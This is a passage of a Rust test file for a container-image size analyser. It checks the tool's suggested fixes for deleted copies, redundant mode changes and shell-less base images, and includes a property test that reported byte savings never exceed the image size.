            .layer(printed, |layer| layer.filled("ctx/x", 100_000, 1))
            .layer("RUN rm -rf /ctx", |layer| layer.whiteout("ctx"));
        let (_, finding) = one(&image, FindingKind::Deleted);
        let words = "Remove the instruction: none of the files it copies are needed.";
        assert_eq!(
            (finding.fix.place, finding.fix.lines()),
            (FixPlace::Text, vec![words.to_owned()]),
            "{printed}"
        );
    }
}

#[test]
fn a_mode_without_effect_is_omitted() {
    let app = |layer: LayerBuilder| layer.filled("srv/app", 500_000, 1).mode(0o755);
    let image = on_base()
        .layer("COPY app /srv/app # buildkit", app)
        .layer("RUN /bin/sh -c chmod 755 /srv/app # buildkit", app);
    let (_, finding) = one(&image, FindingKind::ReStored);
    let words = "Remove the change in layer 3: mode and owner are the same before it.";
    assert_eq!(
        (finding.fix.place, finding.fix.lines()),
        (FixPlace::Text, vec![words.to_owned()])
    );
}

/// A base without a shell cannot run shell commands: no start script, health check or user name.
#[test]
fn a_base_without_a_shell_gets_no_shell_commands() {
    let lines = |config: Config| {
        let image = compiled(None, "")
            .layer("RUN chown", |layer| {
                layer.filled("srv/page.html", 50, 6).owner(5, 5)
            })
            .empty_layer("HEALTHCHECK &{[]}")
            .config(config);
        one(&image, FindingKind::SmallerBase)
            .1
            .fix
            .lines()
            .join("\n")
    };
    let mut config = starting(&["/bin/sh", "-c", "/srv/app --now"]);
    config.user = "app:app".to_owned();
    config.health = Some(dive_rs::image::HealthCheck {
        test: ["CMD-SHELL", "curl x"].map(str::to_owned).to_vec(),
    });
    insta::assert_snapshot!("no shell", lines(config));
    assert!(lines(starting(&["/srv/app"])).ends_with("USER 65532\nCMD [\"/srv/app\"]"));
}

proptest! {
    #[test]
    fn savings_never_exceed_the_image(builder in prop_oneof![crate::categories::known(), crate::properties::image()]) {
        let (image, findings) = findings(&builder);
        prop_assert!(findings.bytes <= image.size());
        let largest = findings.list.iter().map(|finding| finding.bytes).max();
        prop_assert!(findings.bytes >= largest.unwrap_or(0));
        prop_assert!(findings.bytes <= findings.list.iter().map(|finding| finding.bytes).sum());
        for finding in &findings.list {
            let claimed: u64 = finding.claims.iter().map(|claim| claim.bytes).sum();
            prop_assert_eq!(finding.bytes, claimed.saturating_sub(finding.costs));
            for claim in &finding.claims {
                let stored = claim.entry.map_or(0, |entry| image.entry(entry).size);
                prop_assert!(claim.bytes <= stored);
            }
        }
    }
}
